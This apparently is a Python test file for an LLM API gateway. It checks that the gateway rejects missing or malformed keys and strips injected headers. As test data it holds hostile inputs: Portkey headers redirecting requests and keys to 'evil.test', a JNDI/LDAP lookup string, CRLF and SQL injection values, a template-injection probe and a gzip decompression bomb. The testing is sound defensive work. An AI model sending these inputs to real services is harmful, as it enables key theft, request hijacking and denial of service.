"""B28 to B38: headers that claim what they may not, or say what nobody wants."""

import gzip
import re
import zlib
from collections.abc import Sequence

from tests.bad_input.asking import ALICES, BODY, HOST, bearer, chat, head, post
from tests.bad_input.case import Case, Check, Expected, Seen, http, refused, served
from tests.bad_input.house import ALICE, BOB, House

EVIL = b"evil.test"
PORTKEYS = (
    b"x-portkey-custom-host: http://evil.test/v1",
    b'x-portkey-config: {"provider":"openai","custom_host":"http://evil.test/v1","api_key":"evil.test"}',
    b"x-portkey-provider: evil.test",
    b"x-portkey-virtual-key: evil.test",
    b"x-portkey-forward-headers: authorization,cookie,evil.test",
    b"x-portkey-api-key: evil.test",
    b"x-portkey-metadata: evil.test",
    b"X-PORTKEY-TRACE-ID: evil.test",
    b"x-portkey-request-timeout: 1",
    b"x-portkey-cache-namespace: evil.test",
    b"x-portkey-azure-resource-name: evil.test/#",
)
FORWARDING = (
    b"Cookie: session=evil.test",
    b"Proxy-Authorization: Basic evil.test",
    b"Proxy-Connection: evil.test",
    b"Forwarded: for=evil.test;host=evil.test;proto=https",
    b"X-Forwarded-For: 10.1.2.3, evil.test",
    b"X-Forwarded-Host: evil.test",
    b"X-Forwarded-Proto: evil.test",
    b"X-Real-IP: evil.test",
    b"Via: 1.1 evil.test",
    b"X-Original-URL: /admin?evil.test",
    b"X-HTTP-Method-Override: DELETE evil.test",
)
REQUEST_IDS = (
    b"x" * 10_240,
    b"a%0d%0ax-evil:%201",
    "ünïcode".encode(),
    b'{"a":[1]}',
    b"' OR '1'='1",
    b"${jndi:ldap://evil.test}",
)
TRACES = (
    b"traceparent: evil.test",
    b"traceparent: 00-00000000000000000000000000000000-0000000000000000-00",
    b"traceparent: ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
    b"traceparent: 00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01",
    b"traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-03",
    b"traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-" + b"x" * 4000,
    b"tracestate: " + b",".join(b"k%d=evil.test" % number for number in range(40)),
    b"baggage: evil.test=1",
)
OURS = re.compile(r"req_[0-9a-f]{32}")


def _bomb() -> bytes:
    """A gigabyte of zeros, in a few megabytes."""
    return gzip.compress(bytes(2**26), 1) * 16


ENCODED = (
    ("a gzip bomb of 1 GB", b"gzip", _bomb),
    ("gzip", b"gzip", lambda: gzip.compress(BODY)),
    ("gzip twice", b"gzip, gzip", lambda: gzip.compress(gzip.compress(BODY))),
    ("deflate", b"deflate", lambda: zlib.compress(BODY)),
    ("br", b"br", lambda: b"\x0b\x1d\x80" + BODY + b"\x03"),
    ("zstd", b"zstd", lambda: b"\x28\xb5\x2f\xfd" + BODY),
    ("nonsense", b"nonsense", lambda: BODY),
)
WRONG_KEYS: tuple[tuple[str, Sequence[bytes]], ...] = (
    ("Basic", (b"Authorization: Basic YWxpY2U6c2VjcmV0",)),
    ("Basic with the key", (b"Authorization: Basic " + ALICE.encode(),)),
    ("no scheme", (b"Authorization: " + ALICE.encode(),)),
    ("Bearer and nothing", (b"Authorization: Bearer",)),
    ("Bearer and blanks", (b"Authorization: Bearer   ",)),
    ("Bearer  x", (b"Authorization: Bearer  x",)),
    ("two Authorizations, both good", (ALICES, bearer(BOB))),
    ("two Authorizations, one good", (ALICES, bearer("x"))),
    ("two keys in one header", (b"Authorization: Bearer %s, Bearer x" % ALICE.encode(),)),
    ("SQL", (bearer("' OR '1'='1"),)),
    ("a key of 8 kB", (bearer("k" * 8192),)),
    ("the key and 8 kB", (bearer(ALICE + "k" * 8192),)),
    ("a key in latin-1", (b"Authorization: Bearer k\xe9y",)),
    ("a key in UTF-8", (bearer("schlüssel"),)),
    ("the key less a letter", (bearer(ALICE[:-1]),)),
    ("the key in capitals", (bearer(ALICE.upper()),)),
    ("the key, quoted", (bearer(f'"{ALICE}"'),)),
    ("a wrong Authorization beside a good x-api-key", (bearer("x"), b"x-api-key: " + ALICE.encode())),
    ("a template", (bearer("{{7*7}}"),)),
)


def _nothing_evil_goes_on(house: House, _seen: Seen) -> str:
    """Nothing of what the client claimed stands in what Portkey and the provider got, nor its key."""
    told = [f"{name}: {value}" for asked in house.tap.asked for name, value in asked.headers.items()]
    told += [f"{name}: {value}" for seen in house.provider.seen for name, value in seen.headers.items()]
    found = [line[:80] for line in told if "evil" in line or ALICE in line or "10.1.2.3" in line]
    return f"went on: {found}" if found else "" if house.provider.seen else "the provider was not asked"


def _has_an_id_of_ours(house: House, seen: Seen) -> str:
    ids = [answer.headers.get("x-request-id", "") for answer in seen.answers]
    evil = any("x-evil" in answer.headers for answer in seen.answers)
    return "" if all(map(OURS.fullmatch, ids)) and not evil else f"ids {ids}"


def _is_json(_house: House, seen: Seen) -> str:
    types = [answer.headers.get("content-type", "") for answer in seen.answers]
    return "" if types == ["application/json"] else f"content types {types}"


def _closes(check: Check) -> Check:
    return lambda house, seen: check(house, seen) or ("" if seen.closed else "kept open, though asked to close")


def _both_are_asked(house: House, _seen: Seen) -> str:
    said = [seen.body["messages"][0]["content"] for seen in house.provider.seen]
    return "" if said == ["first", "second"] else f"asked for {said}"


UNKNOWN = refused(401, code="invalid_api_key")
UNSUPPORTED = refused(400, code="unsupported_media_type")
CASES = (
    Case("B28", "no key", http(post(auth=())), UNKNOWN),
    Case("B28", "no key, list of models", http(head(HOST, method="GET", path="/v1/models")), UNKNOWN),
    Case("B28", "no key, one model", http(head(HOST, method="GET", path="/v1/models/auto")), UNKNOWN),
    *(
        Case("B28", f"no key, {path}", http(post(auth=(), path=path)), UNKNOWN)
        for path in (
            "/v1/responses",
            "/v1/completions",
            "/v1/embeddings",
            "/s/name/v1/chat/completions",
            "/chat/completions",
        )
    ),
    Case(
        "B28",
        "no key, Anthropic's form",
        http(post(auth=(), path="/v1/messages"), form="anthropic"),
        refused(401, code="authentication_error"),
    ),
    *(Case("B29", what, http(post(auth=auth)), UNKNOWN) for what, auth in WRONG_KEYS),
    Case("B29", "NUL in the key", http(post(auth=(b"Authorization: Bearer k\x00y",))), refused(400, 401)),
    *(
        Case("B30", line.partition(b":")[0].decode(), http(post(BODY, line)), served(_nothing_evil_goes_on))
        for line in PORTKEYS
    ),
    Case("B30", "all of them", http(post(BODY, *PORTKEYS)), served(_nothing_evil_goes_on)),
    *(
        Case(
            "B31", f"x-request-id {sent[:20]!r}", http(post(BODY, b"x-request-id: " + sent)), served(_has_an_id_of_ours)
        )
        for sent in REQUEST_IDS
    ),
    *(Case("B32", line[:40].decode(), http(post(BODY, line)), served(_nothing_evil_goes_on)) for line in TRACES),
    Case(
        "B33",
        "Connection: authorization, close",
        http(post(BODY, b"Connection: authorization, close, x-evil", b"X-Evil: evil.test"), to_close=True),
        served(_closes(_nothing_evil_goes_on)),
        note="the edge is where the key ends, so naming it hop-by-hop takes nothing away",
    ),
    Case(
        "B33",
        "TE, Trailer, Keep-Alive",
        http(post(BODY, b"TE: trailers, evil", b"Trailer: x-evil", b"Keep-Alive: evil")),
        served(_nothing_evil_goes_on),
    ),
    *(
        Case("B34", line.partition(b":")[0].decode(), http(post(BODY, line)), served(_nothing_evil_goes_on))
        for line in FORWARDING
    ),
    *(
        Case(
            "B35",
            f"Content-Type {value.decode() or 'none'}",
            http(post(body, media_type=(b"Content-Type: " + value,) if value else ())),
            expected,
        )
        for value, body, expected in (
            (b"", BODY, UNSUPPORTED),
            (b"text/plain", BODY, UNSUPPORTED),
            (b"text/json", BODY, UNSUPPORTED),
            (b"application/x-www-form-urlencoded", b"model=auto", UNSUPPORTED),
            (
                b"multipart/form-data; boundary=x",
                b'--x\r\nContent-Disposition: form-data; name="model"\r\n\r\nauto\r\n--x--',
                UNSUPPORTED,
            ),
            (b"application/jsonx", BODY, UNSUPPORTED),
            (b"a" * 5000, BODY, UNSUPPORTED),
            (b"application/json; charset=utf-16", BODY.decode().encode("utf-16"), refused(400)),
        )
    ),
    Case(
        "B35",
        "two Content-Types",
        http(post(media_type=(b"Content-Type: text/plain", b"Content-Type: application/json"))),
        refused(400),
    ),
    *(
        Case(
            "B36",
            f"Content-Encoding: {what}",
            http(lambda _house, value=value, body=body: [post(body(), b"Content-Encoding: " + value)]),
            refused(400, code="unsupported_encoding"),
        )
        for what, value, body in ENCODED
    ),
    Case("B36", "Content-Encoding: identity", http(post(BODY, b"Content-Encoding: identity")), served()),
    Case("B37", "Accept: text/html", http(post(BODY, b"Accept: text/html")), served(_is_json)),
    Case("B37", "Accept: nothing, an error", http(post(b"{", b"Accept: image/webp;q=0")), refused(400, check=_is_json)),
    Case(
        "B38",
        "one Idempotency-Key for two requests",
        http(
            b"".join(
                post(chat(messages=[{"role": "user", "content": text}]), b"Idempotency-Key: same")
                for text in ("first", "second")
            ),
            answers=2,
        ),
        Expected((frozenset({200}), frozenset({200})), forwarded=2, check=_both_are_asked),
    ),
)
